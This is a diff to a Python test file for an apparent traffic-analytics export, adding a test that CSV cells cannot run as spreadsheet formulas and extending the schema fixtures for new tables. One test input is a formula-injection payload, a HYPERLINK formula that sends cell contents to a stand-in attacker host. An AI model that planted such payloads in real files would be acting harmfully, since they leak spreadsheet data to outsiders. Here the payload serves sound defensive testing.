@@ -3,6 +3,8 @@ time parsing and the dashboard's static files."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import UTC, datetime
 
@@ -47,11 +49,28 @@ def test_csv_writes_nulls_booleans_and_arrays_unambiguously() -> None:
     assert lines[1] == 's,z,1970-01-01T00:00:00.000Z,1970-01-01T00:05:00.000Z,"[5.0,null]","[null,3]",true,,'
 
 
+@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)",
+                                  "\t=1", "\r=1"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(text: str) -> None:
+    """Issue 12 finding 5, the last line of defence: whatever text reached a row (only closed vocabularies
+    and site-config ids should), a CSV cell starting with =, +, -, @, tab or CR is never a formula."""
+    row = {"site_id": text, "place_id": "door", "age_bracket": "age_20_29", "gender": "male",
+           "window_start": 0, "window_end": 1, "count": 11, "suppressed": False, "window_length_s": 1}
+    [header, line] = list(csv.reader(io.StringIO(csv_text("attributes", [json_row("attributes", row)]), newline="")))
+    cell = line[header.index("site_id")]
+    assert cell == "'" + text and not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert line[header.index("count")] == "11" and line[header.index("place_id")] == "door"
+
+
 def test_dims_are_the_key_fields_of_streams_partner_key() -> None:
     assert {t: dim_fields(t) for t in PARTNER_TABLES} == {
         "traffic_volume": ("line_id", "direction", "class_name"), "occupancy": ("zone_id",),
         "flow_lines": ("origin_zone_id", "destination_zone_id"), "dwell": ("zone_id",),
-        "attributes": ("place_id", "age_bracket", "gender"), "road_conditions": ("h3_cell", "heading")}
+        "attributes": ("place_id", "age_bracket", "gender"), "congestion": ("intersection_id", "approach_id"),
+        "intersection_volume": ("intersection_id", "approach_id", "flow_direction", "class_name"),
+        "turning_movements": ("intersection_id", "entry_approach_id", "exit_approach_id", "class_name"),
+        "vehicle_colours": ("line_id", "direction", "class_name", "colour_family"),
+        "road_conditions": ("h3_cell", "heading")}
 
 
 @pytest.mark.parametrize("table", list(PARTNER_TABLES))
@@ -61,7 +80,7 @@ def test_row_json_schema_is_valid_2020_12_and_accepts_a_row(table: str) -> None:
     sample = {"traffic_volume": _tv("s", 0),
               "occupancy": {"site_id": "s", "zone_id": "z", "window_start": 0, "window_end": 1, "mean_present": 1.5,
                             "max_present": 2, "p95_present": 2.0, "capacity_ratio": None,
-                            "crowding_level": "FULL", "samples": 3},
+                            "crowding_level": "FULL", "samples": 3, "suppressed": False},
               "flow_lines": {"site_id": "s", "origin_zone_id": "a", "destination_zone_id": "b", "window_start": 0,
                              "window_end": 1, "count": None, "suppressed": True, "median_travel_s": None},
               "dwell": {"site_id": "s", "zone_id": "z", "window_start": 0, "window_end": 1,
@@ -69,6 +88,21 @@ def test_row_json_schema_is_valid_2020_12_and_accepts_a_row(table: str) -> None:
                         "median_dwell_s": 2.5},
               "attributes": {"site_id": "s", "place_id": "p", "age_bracket": "age_20_29", "gender": "male",
                              "window_start": 0, "window_end": 1, "count": 7, "suppressed": False},
+              "congestion": {"site_id": "s", "intersection_id": "x", "approach_id": "n", "window_start": 0,
+                             "window_end": 1, "count": 6, "suppressed": False, "mean_present": 1.5, "max_present": 4,
+                             "mean_speed_kmh": 12.0, "density_veh_per_km_lane": 25.0, "mean_delay_s": 14.0,
+                             "queue_length_m": 28.0, "mean_queue_length_m": 7.5, "level_of_service": "B",
+                             "samples": 600},
+              "intersection_volume": {"site_id": "s", "intersection_id": "x", "approach_id": "n",
+                                      "flow_direction": "entering", "class_name": "car", "window_start": 0,
+                                      "window_end": 1, "count": None, "suppressed": True, "mean_speed_kmh": None,
+                                      "p85_speed_kmh": None},
+              "turning_movements": {"site_id": "s", "intersection_id": "x", "entry_approach_id": "n",
+                                    "exit_approach_id": "e", "class_name": "bus", "window_start": 0, "window_end": 1,
+                                    "count": 5, "suppressed": False},
+              "vehicle_colours": {"site_id": "s", "line_id": "l", "direction": "in", "class_name": "truck",
+                                  "colour_family": "other", "window_start": 0, "window_end": 1, "count": None,
+                                  "suppressed": True},
               "road_conditions": {"site_id": "s", "h3_cell": "892f5a32d97ffff", "heading": "NW", "window_start": 0,
                                   "window_end": 1, "trips": 3, "suppressed": False, "samples": 40,
                                   "median_speed_kmh": 31.0, "mean_vehicles_ahead": 1.5, "p85_vehicles_ahead": 2.0,
